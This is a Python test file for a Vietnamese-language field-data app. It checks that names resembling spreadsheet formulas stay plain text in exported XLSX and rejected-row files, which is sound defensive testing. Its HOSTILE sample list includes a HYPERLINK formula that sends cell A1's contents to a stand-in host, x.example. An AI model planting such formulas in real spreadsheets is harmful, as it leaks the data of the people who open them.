"""Formula injection (issue 13, item 9): text from lists and bundles is never a live formula."""

from __future__ import annotations

from actors import police_of
from openpyxl import load_workbook
from sqlalchemy import text
from sync_world import make_world

from fieldapp.documents.xlsx_cells import looks_like_formula
from fieldapp.services import lists, report_output

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def formula_cells(path):
    """Every cell a spreadsheet would run: a formula, or text that looks like one unprotected."""
    found = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str)
                    and looks_like_formula(cell.value)
                    and (cell.data_type != "s" or not cell.quotePrefix)
                ):
                    found.append((cell.coordinate, cell.value))
    return found


def texts(path):
    return {c.value for s in load_workbook(path).worksheets for r in s.iter_rows() for c in r}


def test_a_point_named_like_a_formula_arrives_in_a_bundle_and_stays_text(tmp_path):
    world = make_world(tmp_path, points=1)
    with world.points[0].begin() as connection:
        connection.execute(text("UPDATE supportpoint SET name = :n"), {"n": HOSTILE[0]})
    world.export(0)
    report = world.import_()
    assert all(f.status == "imported" for f in report.files), report.files
    out = tmp_path / "tong-ket.xlsx"
    report_output.write_report(
        world.police_uow(), "final", out, fmt="xlsx", by="point", actor=world.police_user()
    )
    assert HOSTILE[0] in texts(out)  # the name is there, as text
    assert formula_cells(out) == []


def test_a_wave_named_like_a_formula_stays_text_in_the_report(uow, small_commune, tmp_path):
    from datetime import date

    from fieldapp.services import campaign

    police = police_of(uow)
    campaign.add_wave(uow(), HOSTILE[3], date(2026, 1, 1), date(2026, 12, 31), actor=police)
    out = tmp_path / "dot.xlsx"
    report_output.write_report(
        uow(), "wave", out, fmt="xlsx", wave_name=HOSTILE[3], day=date(2026, 6, 1), actor=police
    )
    assert formula_cells(out) == []


def test_csv_names_starting_with_formula_characters_stay_text_in_the_rejected_rows(
    uow, small_commune, tmp_path
):
    rows = ["STT,Họ và tên,Số CCCD,Ngày sinh,Giới tính,Thôn,Số điện thoại"]
    for n, name in enumerate(HOSTILE, start=1):
        rows.append(f'{n},"{name.replace(chr(34), chr(34) * 2)}",12345,01/01/1985,Nữ,Thôn 1,')
    path = tmp_path / "ds.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    preview = lists.preview_list(uow(), path, "police")
    assert len(preview.errors) == len(HOSTILE)  # every row is refused (a 5-digit ID)
    out = tmp_path / "loi.xlsx"
    lists.save_rejected(preview, preview.errors, out)
    assert set(HOSTILE) <= texts(out)
    assert formula_cells(out) == []
